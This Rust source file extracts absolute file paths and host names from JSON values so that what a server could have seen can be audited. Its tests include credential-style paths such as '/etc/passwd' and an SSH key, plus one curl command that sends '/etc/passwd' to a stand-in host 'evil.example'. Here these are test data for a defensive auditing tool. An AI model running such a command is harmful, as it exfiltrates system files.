//! What a value names that lies outside of it: files by their absolute path, hosts by an address. It serves finding
//! again ("what could this server have seen?") and never deciding: a rule needs certainty, a search had rather find
//! too much. Nothing is looked up, and a relative path names nothing, because only the server knows what it is relative to.

use std::collections::BTreeSet;

use serde::{Deserialize, Serialize};
use serde_json::Value;
use url::{Host, Url};

/// Most names one value gives.
const MOST: usize = 64;
/// Longest text that is searched, in bytes: the beginning of a longer one.
const LONGEST: usize = 64 * 1024;
/// Longest name, in bytes; a longer one is left out.
const LONGEST_NAME: usize = 1024;
/// What may stand around a name in a sentence.
const AROUND: &[char] = &[
    '"', '\'', '`', '(', ')', '[', ']', '{', '}', '<', '>', ',', ';', '|', '!', '?', '。', '，', '；',
];

/// Something outside that a value names.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, ts_rs::TS)]
#[serde(tag = "what", content = "name", rename_all = "snake_case")]
#[ts(rename = "Named")]
pub enum Mention {
    /// A file or folder: its absolute path, where `.` and `..` lead, without a slash at the end. Of a file that was attached
    /// to a chat only the name is known.
    File(String),
    /// A host: its name in ASCII and small letters, or its address.
    Host(String),
}

impl Mention {
    /// What a host that was found elsewhere is called here.
    #[must_use]
    pub fn host(host: &str) -> Option<Self> {
        let host = Host::parse(host).ok()?.to_string();
        let host = host.trim_end_matches('.').to_owned();
        (!host.is_empty() && host.len() <= LONGEST_NAME).then_some(Self::Host(host))
    }

    /// What a path that was found elsewhere is called here; `None` for one that is not absolute.
    #[must_use]
    pub fn file(path: &str) -> Option<Self> {
        file(path)
    }
}

/// Everything `value` names, in its texts at any depth.
#[must_use]
pub fn mentions(value: &Value) -> BTreeSet<Mention> {
    let mut found = BTreeSet::new();
    search(value, &mut found);
    found
}

fn search(value: &Value, found: &mut BTreeSet<Mention>) {
    if found.len() >= MOST {
        return;
    }
    match value {
        Value::String(text) => search_text(text, found),
        Value::Array(items) => items.iter().for_each(|item| search(item, found)),
        Value::Object(members) => members.values().for_each(|member| search(member, found)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// The whole text where it is one name, else each of its words.
fn search_text(text: &str, found: &mut BTreeSet<Mention>) {
    let text = &text[..text.floor_char_boundary(LONGEST)];
    let whole = text.trim();
    let is_path = !whole.contains('\n') && whole.starts_with(['/', '~']) && !whole.contains(" /");
    let names = std::iter::once(whole).filter(|_| is_path).filter_map(one);
    let words = text.split_whitespace().filter(|_| !is_path).filter_map(one);
    for name in names.chain(words) {
        if found.len() >= MOST {
            return;
        }
        found.insert(name);
    }
}

fn one(word: &str) -> Option<Mention> {
    let word = word.trim_matches(AROUND);
    // `--output=/tmp/x` and `key=https://…` name what stands behind the sign.
    let word = match word.split_once('=') {
        Some((before, after)) if !before.contains(['/', ':']) => after.trim_matches(AROUND),
        _ => word,
    };
    address(word).or_else(|| file(word)).or_else(|| mail(word))
}

fn address(word: &str) -> Option<Mention> {
    let (scheme, _) = word.split_once("://")?;
    let url = Url::parse(word).ok()?;
    if scheme.eq_ignore_ascii_case("file") {
        return file(&url.to_file_path().ok()?.to_string_lossy());
    }
    Mention::host(url.host_str()?)
}

/// Mail leaves for the host behind the sign.
fn mail(word: &str) -> Option<Mention> {
    let (who, host) = word.rsplit_once('@')?;
    let is_name = host.contains('.') && !host.contains(['/', ':', '@']);
    (!who.is_empty() && is_name)
        .then(|| Mention::host(host))
        .flatten()
}

fn file(path: &str) -> Option<Mention> {
    let bytes = path.as_bytes();
    let drive = bytes.first().is_some_and(u8::is_ascii_alphabetic)
        && bytes.get(1) == Some(&b':')
        && matches!(bytes.get(2), Some(b'/' | b'\\'));
    let (root, rest) = match path.strip_prefix("~/") {
        Some(rest) => ("~", rest),
        None if drive => path.split_at(2),
        None => ("", path.strip_prefix('/')?),
    };
    let separators: &[char] = if drive { &['/', '\\'] } else { &['/'] };
    let steps = steps(rest, separators);
    if steps.is_empty() && root.is_empty() && path != "/" {
        return None;
    }
    let path = format!("{root}/{}", steps.join("/"));
    (path.len() <= LONGEST_NAME && !path.contains(char::is_control)).then_some(Mention::File(path))
}

/// The folders on the way and the file, with steps up taken back.
fn steps<'a>(path: &'a str, separators: &[char]) -> Vec<&'a str> {
    let mut steps: Vec<&str> = vec![];
    for step in path.split(separators) {
        match step {
            "" | "." => {}
            ".." => drop(steps.pop()),
            step => steps.push(step),
        }
    }
    steps
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[track_caller]
    fn check(value: &Value, wanted: &[&str]) {
        let found: Vec<String> = mentions(value)
            .into_iter()
            .map(|name| match name {
                Mention::File(path) => path,
                Mention::Host(host) => host,
            })
            .collect();
        assert_eq!(found, wanted, "{value}");
    }

    #[test]
    fn a_path_is_found_where_it_leads() {
        check(
            &json!({ "path": "/home/ada/Notes/a b.md" }),
            &["/home/ada/Notes/a b.md"],
        );
        check(&json!("/home/ada/../../etc/./passwd/"), &["/etc/passwd"]);
        check(&json!("~/.ssh/id_ed25519"), &["~/.ssh/id_ed25519"]);
        check(&json!("C:\\Users\\Ada\\..\\Eve"), &["C:/Users/Eve"]);
        check(&json!("file:///home/ada/%2e%2e/eve"), &["/home/eve"]);
        check(&json!("/"), &["/"]);
    }

    #[test]
    fn a_host_is_found_in_its_one_spelling() {
        check(&json!("https://EXAMPLE.com:8443/a?b=c#d"), &["example.com"]);
        check(&json!("wss://bücher.example./"), &["xn--bcher-kva.example"]);
        check(&json!("http://[::1]/"), &["[::1]"]);
        check(&json!({ "to": ["kari@Ours.example"] }), &["ours.example"]);
    }

    #[test]
    fn names_are_found_inside_a_command_and_a_sentence() {
        check(
            &json!("curl --output=/tmp/x 'https://evil.example/y' </etc/passwd"),
            &["/etc/passwd", "/tmp/x", "evil.example"],
        );
        check(
            &json!("See (https://a.example/b), or write to ann@b.example."),
            &["a.example", "b.example"],
        );
    }

    #[test]
    fn what_names_nothing_outside_is_not_found() {
        for value in [
            json!("and/or"),
            json!("notes/today.md"),
            json!("my/notes.md"),
            json!("//"),
            json!("a@b"),
            json!(7),
            json!(null),
        ] {
            check(&value, &[]);
        }
    }

    #[test]
    fn what_was_found_elsewhere_is_called_the_same_here() {
        assert_eq!(
            Mention::host("EXAMPLE.com."),
            Some(Mention::Host("example.com".into()))
        );
        assert_eq!(Mention::host("."), None);
        assert_eq!(Mention::file("/a/../b/"), Some(Mention::File("/b".into())));
        assert_eq!(Mention::file("b"), None);
    }

    #[test]
    fn what_stands_far_into_a_text_is_found_up_to_a_bound() {
        let after = |bytes: usize| json!(format!("{} /etc/passwd", "word ".repeat(bytes / 5)));
        check(&after(60 * 1024), &["/etc/passwd"]);
        check(&after(64 * 1024), &[]);
    }

    #[test]
    fn the_names_of_one_value_are_bounded() {
        let many: Vec<String> = (0..1000).map(|number| format!("/tmp/{number}")).collect();
        assert_eq!(mentions(&json!(many)).len(), MOST);
        assert_eq!(mentions(&json!(many.join(" \n"))).len(), MOST);
        check(&json!(format!("/{}", "x".repeat(LONGEST_NAME))), &[]);
    }
}
